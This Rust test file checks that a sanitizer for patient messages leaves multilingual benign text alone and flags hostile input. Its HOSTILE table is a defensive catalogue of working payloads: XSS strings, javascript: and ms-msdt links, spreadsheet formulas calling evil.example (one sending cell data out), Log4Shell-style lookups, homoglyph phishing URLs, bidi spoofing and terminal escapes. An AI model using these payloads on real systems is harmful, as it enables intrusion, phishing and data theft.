//! What patients write is released as it is; what deceives is named, each by its own code.

use sekisho_jail::decode::decode;
use sekisho_jail::look::look;
use sekisho_protocol::FindingCode::{
    ActiveLink, BidiOverride, ControlCharacters, DeceptiveLink, Formula, InvisibleCharacters,
    LogInjection, Markup, TerminalEscape,
};
use sekisho_protocol::{DecodeLimits, DecodeReport, FileKind, FindingCode};

#[test]
fn what_patients_write_has_no_finding_and_stays_as_it_is() {
    let wrong: Vec<String> = BENIGN
        .iter()
        .filter(|text| !codes(text).is_empty() || shown(text) != **text)
        .map(|text| format!("{text:?}: {:?}, shown {:?}", codes(text), shown(text)))
        .collect();
    assert!(BENIGN.len() >= 40 && wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_deceives_is_named_and_shown_inert() {
    let wrong: Vec<String> = HOSTILE
        .iter()
        .filter(|(text, wanted)| codes(text) != *wanted || shown(text) == *text)
        .map(|(text, wanted)| {
            format!("{text:?}: {:?}, not {wanted:?}; {:?}", codes(text), shown(text))
        })
        .collect();
    assert!(HOSTILE.len() >= 60 && wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_is_shown_has_nothing_left_to_find() {
    for (text, _) in HOSTILE {
        let shown = shown(text);
        assert_eq!(codes(&shown), [], "{text:?} became {shown:?}");
    }
}

#[test]
fn what_only_a_careless_reader_would_run_is_found_beside_japanese() {
    let letter: [&[u8]; 3] = [
        // "The rash itches." in ISO-2022-JP, EUC-JP and Shift_JIS.
        b"\x1B$BH/?>$,$+$f$$$G$9!#\x1B(B",
        b"\xC8\xAF\xBF\xBE\xA4\xAC\xA4\xAB\xA4\xE6\xA4\xA4\xA4\xC7\xA4\xB9\xA1\xA3",
        b"\x94\xAD\x90\x5D\x82\xAA\x82\xA9\x82\xE4\x82\xA2\x82\xC5\x82\xB7\x81\x42",
    ];
    let [mail, euc_jp, shift_jis] = letter;
    let found = |file: &[u8]| {
        let report = look(file, &DecodeLimits::default());
        assert_eq!(report.kind, FileKind::Text);
        let codes = report.findings.iter().map(|finding| (finding.code, finding.offset));
        codes.filter(|(code, _)| *code != FindingCode::TextEncoding).collect::<Vec<_>>()
    };
    for honest in letter {
        assert_eq!(found(honest), []);
    }
    let at = |before: &[u8]| vec![(Markup, before.len() as u64)];
    // Signs of more bytes than UTF-8 allows, which EUC-JP has for kanji.
    assert_eq!(found(&[euc_jp, &b"\xC0\xBCscript\xC0\xBEalert(1)"[..]].concat()), at(euc_jp));
    // Between the escapes two letters are a kanji.
    let hidden = [mail, &b"\x1B$B!<script>alert\x1B(B"[..]].concat();
    let markup = (Markup, mail.len() as u64 + 4);
    assert!(found(&hidden).contains(&markup), "{:?}", found(&hidden));
    // And so they are behind the mark of UTF-16.
    assert_eq!(found(b"\xFF\xFE<script>alert(1)</script> "), at(b"\xFF\xFE"));
    // What is Japanese to everybody is none of it.
    assert_eq!(found(&[shift_jis, &b" 3 < 5"[..]].concat()), []);
}

fn codes(text: &str) -> Vec<FindingCode> {
    let report = look(text.as_bytes(), &DecodeLimits::default());
    let found = report.findings.iter().map(|finding| finding.code);
    // A whole page or script is another kind of file; a message is read as text all the same.
    found.filter(|code| *code != FindingCode::UnsupportedType).collect()
}

fn shown(text: &str) -> String {
    let mut output = vec![0; 64 * 1024];
    match decode(text.as_bytes(), (FileKind::Text, 0), &DecodeLimits::default(), &mut output) {
        Ok(DecodeReport::Text { bytes }) => {
            output.truncate(usize::try_from(bytes).unwrap());
            String::from_utf8(output).unwrap()
        }
        other => panic!("{text:?}: {other:?}"),
    }
}

const BENIGN: &[&str] = &[
    "昨日から左腕に発疹があります。かゆみが強く、夜も眠れません。",
    "熱は37.5℃、血圧は120/80です。",
    "-3 度の保冷剤で冷やしました。",
    "-1日目: 発熱\n-2日目: 咳\n- CRP(5.2)が高いと言われました",
    "+81 90-1234-5678 にお電話ください。",
    "+81-3-1234-5678",
    "@山田先生 いつもお世話になっております。",
    "@taro ご覧ください",
    "=> 昨日より良くなりました",
    "==== 症状 ====\n・咳\n・鼻水",
    "=37.5度でした",
    "= 以上 =",
    "--- 以上 ---",
    "+ よくなった点\n- 悪くなった点",
    "+++ 陽性でした",
    "痛み = 3/10, 熱 = 37.2",
    "家族👨\u{200D}👩\u{200D}👧全員元気です❤\u{FE0F}",
    "ありがとうございます🙇🏻\u{200D}♀\u{FE0F}",
    "1\u{FE0F}\u{20E3}番の薬を飲みました ☺\u{FE0F} ✔\u{FE0E}",
    "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F} から帰国しました 🇯🇵",
    "葛\u{E0100}城市の辻\u{E0101}です。",
    "㈱の箱の薬、①朝 ②夜、ｱﾚﾙｷﾞｰなし",
    "مرحبا دكتور، عندي طفح جلدي على ذراعي منذ أمس.",
    "می\u{200C}خواهم وقت بگیرم",
    "שלום דוקטור, יש לי פריחה ביד מאתמול.",
    "התור שלי ב\u{200F}-10:30 בבוקר",
    "क्\u{200D}ष में दर्द है",
    "สวัสดีครับ ผมมีผื่นที่แขน",
    "Xin chào bác sĩ, tay tôi bị nổi mẩn đỏ.",
    "안녕하세요, 팔에 발진이 났어요.",
    "医生您好，我的手臂从昨天开始起疹子。",
    "Здравствуйте, доктор! Сыпь на руке. Сайт: пример.рф",
    "Γ-GTP と γ-GTP.AST の値が高いです。α線治療の予定はありますか。",
    "https://www.example.jp/rash?from=app&id=3#top をご覧ください。",
    "予約はhttps://yoyaku.example.jpからしました",
    "https://日本語.jp と https://xn--wgv71a119e.jp は同じ病院です。",
    "地図: https://maps.example.com/@35.68,139.76,15z",
    "http://192.168.1.10:8080/ は家のカメラです。",
    "返信先: 山田 <taro@example.jp>、<https://example.jp/a>",
    "5 < 7 and 9 > 3; x<y and y>z; I <3 you",
    "I work with JavaScript: it hurts my wrists.",
    "血液データ: WBC 5000, CRP 0.3\ndata: none",
    "mailto:taro@example.jp か tel:0312345678 へ",
    "2026-11-23 05:42 に発熱、2026-11-24 06:00 に解熱",
    "2026/11/23 05:42:18 に撮影した写真です。",
    "Nov 23 から薬を飲んでいます。Info: 朝食後",
    "薬代は¥1,200でした。\\(^o^)/ 〜〜 ～",
    "100%効きました。50%0ff ではありません。",
    "${name}様 と書かれた案内が届きました {1}",
    "A&B、AT&T、1&2; R&#D",
    "室温=3C でした。A+AB- と O+ADA 抗体、+ABO-",
    "CRP <0.10、LDL >140、<注意> を読みました </終わり>",
    "ttps://www.example.jp/a と tel:0312345678、URL://なし",
    "Windows Registry Editor や PowerShell とは何ですか。cmd という画面も出ました。",
    "-----BEGIN PGP MESSAGE----- とは何ですか。",
];

const HOSTILE: &[(&str, &[FindingCode])] = &[
    // Direction.
    ("添付の photo\u{202E}gpj.exe", &[BidiOverride]),
    ("a\u{202D}b\u{202C}", &[BidiOverride]),
    ("a\u{2066}b\u{2069}", &[BidiOverride]),
    ("price \u{200F}100\u{200F} yen", &[BidiOverride]),
    ("مرحبا \u{202E}abc", &[BidiOverride]),
    // What nobody sees.
    ("hos\u{200B}pital", &[InvisibleCharacters]),
    ("a\u{2060}b", &[InvisibleCharacters]),
    ("a\u{FEFF}b", &[InvisibleCharacters]),
    ("pass\u{00AD}word", &[InvisibleCharacters]),
    ("a\u{200D}b", &[InvisibleCharacters]),
    ("a\u{200C}b", &[InvisibleCharacters]),
    ("hi\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}", &[InvisibleCharacters]),
    ("🏴\u{E0068}\u{E0069}\u{E0064}\u{E0065}\u{E007F}", &[InvisibleCharacters]),
    ("a\u{FE0F}b\u{FE01}", &[InvisibleCharacters]),
    ("😀\u{E0154}\u{E0155}\u{E0156}", &[InvisibleCharacters]),
    ("\u{3164}\u{3164}", &[InvisibleCharacters]),
    ("a\u{115F}\u{1160}b", &[InvisibleCharacters]),
    ("a\u{FFA0}b", &[InvisibleCharacters]),
    ("a\u{2800}b", &[InvisibleCharacters]),
    ("a\u{FFF9}b\u{FFFA}c\u{FFFB}", &[InvisibleCharacters]),
    ("a\u{E000}b", &[InvisibleCharacters]),
    ("a\u{FFFF}b", &[InvisibleCharacters]),
    ("a\u{0301}\u{0302}\u{0303}\u{0304}\u{0305}\u{0306}\u{0307}", &[InvisibleCharacters]),
    // Terminals.
    ("\u{1B}[2J", &[TerminalEscape]),
    ("\u{1B}[31m赤\u{1B}[0m", &[TerminalEscape]),
    ("\u{9B}31m", &[TerminalEscape]),
    ("\u{1B}]8;;https://evil.example\u{1B}\\here\u{1B}]8;;\u{1B}\\", &[TerminalEscape]),
    ("\u{1B}]0;title\u{7}", &[ControlCharacters, TerminalEscape]),
    ("\u{90}q\u{9C}", &[ControlCharacters, TerminalEscape]),
    ("echo -e '\\x1b[2J'", &[TerminalEscape]),
    ("printf '\\033[2J'", &[TerminalEscape]),
    ("beep\u{7}", &[ControlCharacters]),
    ("ab\u{8}\u{8}cd", &[ControlCharacters]),
    ("陰性\r陽性", &[ControlCharacters]),
    ("a\u{1}b", &[ControlCharacters]),
    ("a\u{2028}b", &[ControlCharacters]),
    ("a\u{85}b", &[ControlCharacters]),
    // Links that act.
    ("javascript:alert(1)", &[ActiveLink]),
    ("JaVaScRiPt:alert(1)", &[ActiveLink]),
    ("javascript: alert(1)", &[ActiveLink]),
    ("java\nscript:alert(1)", &[ActiveLink]),
    ("java\tscript:alert(1)", &[ActiveLink]),
    ("j a v a s c r i p t : alert(1)", &[ActiveLink]),
    ("&#106;avascript:alert(1)", &[ActiveLink]),
    ("&#x6A;avascript&colon;alert(1)", &[ActiveLink]),
    ("%6aavascript:alert(1)", &[ActiveLink]),
    ("\\u006aavascript:alert(1)", &[ActiveLink]),
    ("ｊａｖａｓｃｒｉｐｔ：alert(1)", &[ActiveLink]),
    ("[結果](javascript:alert(1))", &[ActiveLink]),
    ("vbscript:msgbox(1)", &[ActiveLink]),
    ("data:text/html;base64,PHNjcmlwdD4=", &[ActiveLink]),
    ("data:;base64,PHNjcmlwdD4=", &[ActiveLink]),
    ("DATA:image/svg+xml,x", &[ActiveLink]),
    ("file:///etc/passwd", &[ActiveLink]),
    ("\\\\10.0.0.1\\share\\a", &[ActiveLink]),
    ("ms-msdt:/id PCWDiagnostic", &[ActiveLink]),
    ("search-ms:query=a", &[ActiveLink]),
    ("intent://scan/#Intent;end", &[ActiveLink]),
    // Links that lie.
    ("https://www.g\u{043E}\u{043E}gle.com/", &[DeceptiveLink]),
    ("https://\u{0430}\u{0440}\u{0440}\u{04CF}\u{0435}.com/", &[DeceptiveLink]),
    ("https://xn--80ak6aa92e.com/", &[DeceptiveLink]),
    ("https://xn--pple-43d.com/", &[DeceptiveLink]),
    ("www.\u{0440}aypal.com", &[DeceptiveLink]),
    ("https://\u{1D41A}pple.com", &[DeceptiveLink]),
    ("https://ｅｘａｍｐｌｅ.jp/", &[DeceptiveLink]),
    ("https://www.mhlw.go.jp@evil.example/", &[DeceptiveLink]),
    ("https://user:pass@evil.example/", &[DeceptiveLink]),
    ("http://0x7f000001/", &[DeceptiveLink]),
    ("http://2130706433/", &[DeceptiveLink]),
    ("https://bank.example\u{2215}login.evil.example/", &[DeceptiveLink]),
    ("https://exa%6dple.jp/", &[DeceptiveLink]),
    ("[https://bank.example](https://evil.example)", &[DeceptiveLink]),
    // Spreadsheets.
    ("=cmd|' /C calc'!A0", &[Formula]),
    ("=HYPERLINK(\"http://evil.example?x=\"&A1,\"結果\")", &[Formula]),
    ("+SUM(1+1)*cmd|' /C calc'!A0", &[Formula]),
    ("-2+3+cmd|' /C calc'!A0", &[Formula]),
    ("@SUM(1+1)*cmd|' /C calc'!A0", &[Formula]),
    ("=1+1", &[Formula]),
    ("=A1", &[Formula]),
    ("＝HYPERLINK(\"http://evil.example\")", &[Formula]),
    ("熱\t=IMPORTXML(\"http://evil.example\",\"//a\")", &[Formula]),
    ("よろしく\n\"=WEBSERVICE(\"\"http://evil.example\"\")\"", &[Formula]),
    ("a,=DDE(\"cmd\";\"/C calc\";\"x\")", &[Formula]),
    // Logs.
    ("ok\n2026-11-23T05:42:18Z INFO audit: login ok user=admin", &[LogInjection]),
    ("ok\n[2026-11-23 05:42:18] ERROR db: gone", &[LogInjection]),
    ("ok\nNov 23 05:42:18 host sshd[1]: Accepted password for root", &[LogInjection]),
    ("127.0.0.1 - - [23/Nov/2026:05:42:18 +0900] \"GET / HTTP/1.1\" 200 1", &[LogInjection]),
    ("${jndi:ldap-x}", &[LogInjection]),
    ("${${lower:j}ndi:x}", &[LogInjection]),
    ("${java:version}", &[LogInjection]),
    ("${k8s:accountName}", &[LogInjection]),
    ("a%0d%0aSet-Cookie: x=1", &[LogInjection]),
    // Markup.
    ("x <script>alert(1)</script>", &[Markup]),
    ("<img src=x onerror=alert(1)>", &[Markup]),
    ("x <svg/onload=alert(1)", &[Markup]),
    ("x <iframe src=//evil.example>", &[Markup]),
    ("see <b>this</b>", &[Markup]),
    ("x <a href=https://evil.example>here</a>", &[Markup]),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", &[Markup]),
    ("%3Cscript%3Ealert(1)", &[Markup]),
    ("＜script＞alert(1)＜/script＞", &[Markup]),
    ("\" onmouseover=\"alert(1)", &[Markup]),
    ("{{constructor.constructor('alert(1)')()}}", &[Markup]),
    ("x <?php echo 1; ?>", &[Markup]),
    ("x <!-- hidden -->", &[Markup]),
    ("<!DOCTYPE x [<!ENTITY e SYSTEM 'a'>]>", &[Markup]),
    ("a <setting><link1>x</link1></setting>", &[Markup]),
    ("a <x:y z=\"1\"/>", &[Markup]),
    ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", &[Markup]),
    ("+ADwAcwBjAHIAaQBwAHQAPg-alert(1)", &[Markup]),
    ("=3Cscript=3Ealert(1)", &[Markup]),
    ("javascript+ADo-alert(1)", &[ActiveLink]),
    ("tel:*2767*3855#", &[ActiveLink]),
    ("ms-settings:privacy", &[ActiveLink]),
    ("itms-services://?action=download", &[ActiveLink]),
    ("webcal://evil.example/a.ics", &[ActiveLink]),
];
